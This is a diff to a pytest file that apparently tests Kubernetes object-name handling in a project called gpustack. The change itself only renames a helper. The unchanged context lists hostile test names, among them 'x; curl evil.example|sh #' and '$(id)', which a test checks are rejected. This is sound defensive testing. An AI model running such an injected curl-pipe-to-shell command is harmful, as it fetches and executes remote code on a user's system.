@@ -9,7 +9,7 @@ import pytest
 from gpustack.ask.probe import Answer, FactUnavailable
 from gpustack.probes.kubernetes.names import PATH_SEGMENT, require_names
 from gpustack.probes.kubernetes.nodes import list_objects
-from tests.worlds.snapshots.answers import CASES, probes
+from tests.worlds.snapshots.answers import CASES, index_probes
 
 HOSTILE = (
     "x; curl evil.example|sh #", "$(id)", "`id`", "a b", "it's", 'a"b', "a\nb", "-rf", "a/../b", "A", "", "a" * 254,
@@ -41,7 +41,7 @@ def read_items(text: str) -> list[Any]:
 def test_a_name_that_the_api_server_does_not_accept_is_not_used(path: Path) -> None:
     answer = json.loads(path.read_text())["answer"]
     document = json.loads(answer["stdout"])
-    probe = probes()[path.parent.name]
+    probe = index_probes()[path.parent.name]
     for name in HOSTILE[:-5]:
         document["items"][0]["metadata"]["name"] = name
         with pytest.raises(FactUnavailable, match="the API server accepts no such name" if name else None):
